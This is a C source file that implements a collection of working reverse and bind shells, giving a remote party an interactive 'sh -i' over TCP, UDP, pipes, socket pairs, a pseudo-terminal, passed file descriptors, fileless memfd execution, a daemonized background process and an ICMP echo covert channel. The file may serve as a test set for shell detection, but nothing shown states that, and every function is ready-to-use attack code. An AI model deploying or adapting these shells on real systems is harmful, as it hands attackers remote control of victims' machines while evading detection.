/* Shells that somebody outside gets: by connection, pipe, terminal, datagram, echo. */
#include "hand.h"

struct sockaddr_in peer(void)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(arguments[1]))};
	inet_pton(AF_INET, arguments[0], &to.sin_addr);
	return to;
}

static int dial(int type)
{
	struct sockaddr_in to = peer();
	int fd = socket(AF_INET, type, 0);
	need(connect(fd, (void *)&to, sizeof(to)), "connect");
	return fd;
}

static void shell(const char *path)
{
	char *const words[] = {"sh", "-i", NULL};
	execv(path, words);
	need(-1, path);
}

void on(int fd, const char *path)
{
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	shell(path);
}

/* Bytes to and fro until either end closes. */
static void pump(int fd, int in, int out)
{
	struct pollfd ends[2] = {{.fd = fd, .events = POLLIN}, {.fd = in, .events = POLLIN}};
	char part[4096];
	while (poll(ends, 2, 10000) > 0)
		for (int i = 0; i < 2; i++)
			if (ends[i].revents) {
				long size = read(ends[i].fd, part, sizeof(part));
				if (size <= 0 || write(i ? fd : out, part, size) < 0)
					return;
			}
}

void act_dup(void) { on(dial(SOCK_STREAM), arguments[2]); }
void act_udp(void)
{
	int fd = dial(SOCK_DGRAM);
	write(fd, "hello\n", 6);
	on(fd, arguments[2]);
}

/* The connection gets number 0 by itself: nothing is duplicated onto it. */
void act_low(void)
{
	close(0);
	int fd = dial(SOCK_STREAM);
	close(1), close(2);
	fcntl(fd, F_DUPFD, 1), fcntl(fd, F_DUPFD, 2);
	shell(arguments[2]);
}

void act_daemon(void)
{
	if (fork())
		exit(0);
	setsid();
	if (fork())
		exit(0);
	sleep(1);
	act_dup();
}

static void *in_thread(void *unused)
{
	(void)unused;
	act_dup();
	return NULL;
}

void act_thread(void)
{
	pthread_t thread;
	pthread_create(&thread, NULL, in_thread, NULL);
	pthread_join(thread, NULL);
}

static void relay(int to_shell[2], int from_shell[2], int dialled_late)
{
	int fd = dialled_late ? -1 : dial(SOCK_STREAM);
	if (!fork()) {
		dup2(to_shell[0], 0), dup2(from_shell[1], 1), dup2(from_shell[1], 2);
		for (int i = 3; i < 20; i++)
			close(i);
		shell(arguments[2]);
	}
	if (dialled_late) {
		sleep(2);
		fd = dial(SOCK_STREAM);
	}
	pump(fd, from_shell[0], to_shell[1]);
}

void act_pipes(void)
{
	int to[2], from[2];
	need(pipe2(to, O_CLOEXEC) | pipe2(from, O_CLOEXEC), "pipe");
	relay(to, from, 0);
}

void act_late(void)
{
	int to[2], from[2];
	need(pipe2(to, O_CLOEXEC) | pipe2(from, O_CLOEXEC), "pipe");
	relay(to, from, 1);
}

void act_pair(void)
{
	int both[2];
	need(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, both), "socketpair");
	relay((int[]){both[0], both[1]}, (int[]){both[1], both[0]}, 0);
}

void act_pty(void)
{
	int fd = dial(SOCK_STREAM), master = posix_openpt(O_RDWR | O_NOCTTY);
	need(grantpt(master) | unlockpt(master), "pty");
	if (!fork()) {
		setsid();
		int slave = open(ptsname(master), O_RDWR);
		close(fd), close(master);
		on(slave, arguments[2]);
	}
	pump(fd, master, master);
}

/* One process dials, another gets the connection over a Unix socket and becomes the shell. */
void act_pass(void)
{
	int both[2];
	char room[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
	struct iovec part = {&byte, 1};
	struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room)};
	need(socketpair(AF_UNIX, SOCK_STREAM, 0, both), "socketpair");
	if (!fork()) {
		need(recvmsg(both[1], &message, 0), "recvmsg");
		on(*(int *)CMSG_DATA(CMSG_FIRSTHDR(&message)), arguments[2]);
	}
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	*head = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
	*(int *)CMSG_DATA(head) = dial(SOCK_STREAM);
	need(sendmsg(both[0], &message, 0), "sendmsg");
	wait(NULL);
}

void act_memfd(void)
{
	char part[65536];
	long size;
	int from = open(arguments[2], O_RDONLY), memory = memfd_create("x", MFD_CLOEXEC), fd = dial(SOCK_STREAM);
	while ((size = read(from, part, sizeof(part))) > 0)
		write(memory, part, size);
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	char *const words[] = {"sh", "-i", NULL}, *const nothing[] = {NULL};
	syscall(SYS_execveat, memory, "", words, nothing, AT_EMPTY_PATH);
}

void act_bind(void)
{
	struct sockaddr_in here = peer();
	int server = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	need(bind(server, (void *)&here, sizeof(here)) | listen(server, 1), "listen");
	on(accept(server, NULL, NULL), arguments[2]);
}

/* A shell over datagrams that are never connected. */
void act_datagrams(void)
{
	int to[2], from[2], fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in there = peer();
	char part[1024];
	need(pipe(to) | pipe(from), "pipe");
	if (!fork()) {
		dup2(to[0], 0), dup2(from[1], 1), dup2(from[1], 2);
		for (int i = 3; i < 20; i++)
			close(i);
		shell(arguments[2]);
	}
	sendto(fd, "hello\n", 6, 0, (void *)&there, sizeof(there));
	struct pollfd ends[2] = {{.fd = fd, .events = POLLIN}, {.fd = from[0], .events = POLLIN}};
	while (poll(ends, 2, 5000) > 0)
		for (int i = 0; i < 2; i++)
			if (ends[i].revents) {
				long size = read(ends[i].fd, part, sizeof(part));
				if (size <= 0)
					return;
				if (i)
					sendto(fd, part, size, 0, (void *)&there, sizeof(there));
				else
					write(to[1], part, size);
			}
}

/* A shell over ICMP echo: commands come in the payload of replies with our identity. */
void act_icmp(void)
{
	int to[2], from[2], fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	struct sockaddr_in there = peer();
	struct { struct icmphdr head; char body[1024]; } out = {.head = {.type = ICMP_ECHO}};
	char in[2048];
	need(fd, "raw socket");
	need(pipe(to) | pipe(from), "pipe");
	out.head.un.echo.id = htons(atoi(arguments[1]));
	if (!fork()) {
		dup2(to[0], 0), dup2(from[1], 1), dup2(from[1], 2);
		for (int i = 3; i < 20; i++)
			close(i);
		shell(arguments[2]);
	}
	struct pollfd ends[2] = {{.fd = fd, .events = POLLIN}, {.fd = from[0], .events = POLLIN}};
	long size = 0;
	do {
		uint32_t sum = 0;
		out.head.checksum = 0;
		for (long i = 0; i < (8 + size + 1) / 2; i++)
			sum += ((uint16_t *)&out)[i];
		sum = (sum >> 16) + (sum & 0xffff);
		out.head.checksum = ~(sum + (sum >> 16));
		sendto(fd, &out, 8 + size, 0, (void *)&there, sizeof(there));
		for (size = 0; !size;) {
			if (poll(ends, 2, 5000) <= 0)
				return;
			if (ends[0].revents) {
				long got = read(fd, in, sizeof(in));
				struct icmphdr *head = (void *)(in + 20);
				if (got > 29 && head->type == ICMP_ECHOREPLY && head->un.echo.id == out.head.un.echo.id && in[28] == '!')
					write(to[1], in + 29, got - 29);
			}
			memset(out.body, 0, sizeof(out.body));
			if (ends[1].revents && (size = read(from[0], out.body, sizeof(out.body))) <= 0)
				return;
		}
	} while (1);
}
